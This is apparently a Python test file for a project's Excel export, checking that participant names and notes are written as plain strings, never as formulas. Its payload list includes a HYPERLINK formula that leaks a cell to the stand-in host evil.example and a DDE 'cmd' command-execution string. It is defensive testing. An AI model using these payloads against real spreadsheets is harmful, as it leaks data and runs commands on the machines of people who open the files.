"""User text is never a formula: in every cell of every sheet, small or large."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from dialogue_desk.exchange.workbook.cells import (
    POLISH_CELLS,
    TEXT,
    WRAP,
    Column,
    SheetSpec,
    write_sheet,
)
from dialogue_desk.exchange.workbook.event import write_event_workbook
from dialogue_desk.store.enums import StakeholderGroup
from dialogue_desk.store.models import Participant

PAYLOADS = [
    '\x01=HYPERLINK("http://evil.example/?leak="&C2,"Open programme")',
    "=3+3",
    "\x01=3+3",
    "\x07\x1b=1+1",
    "+SUM(A1:A2)",
    "-2+3",
    "@SUM(A1)",
    "\x00=cmd|' /C calc'!A0",
]


def formulas(path: Path) -> list[str]:
    """Every <f> element in every sheet of the file, read from the XML itself."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>", archive.read(name).decode("utf-8"))
    return found


@pytest.mark.parametrize("rows", [10, POLISH_CELLS])  # a small sheet and one past the limit
def test_no_payload_becomes_a_formula(tmp_path: Path, rows: int) -> None:
    spec = SheetSpec("Participants", [Column("Name", TEXT), Column("Note", WRAP)])
    for number in range(rows):
        spec.add(PAYLOADS[number % len(PAYLOADS)], PAYLOADS[(number + 3) % len(PAYLOADS)])
    assert len(spec.rows) * len(spec.columns) > POLISH_CELLS or rows == 10
    workbook = Workbook(write_only=True)
    write_sheet(workbook, spec)
    path = tmp_path / "sheet.xlsx"
    workbook.save(path)
    assert formulas(path) == []
    sheet = openpyxl.load_workbook(path, read_only=True).worksheets[0]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            assert not cell.value.startswith("\x01")


def test_event_workbook_with_payload_names_has_no_formula(store, demo_event, tmp_path) -> None:
    with store.session() as session:
        for payload in PAYLOADS:
            session.add(
                Participant(event_id=demo_event, first_name=payload, last_name=payload,
                            organisation=payload, role=payload, phone=payload,
                            stakeholder_group=StakeholderGroup.NGO, search_key="")
            )  # fmt: skip
    path = write_event_workbook(store, demo_event, tmp_path / "e.xlsx")
    assert formulas(path) == []
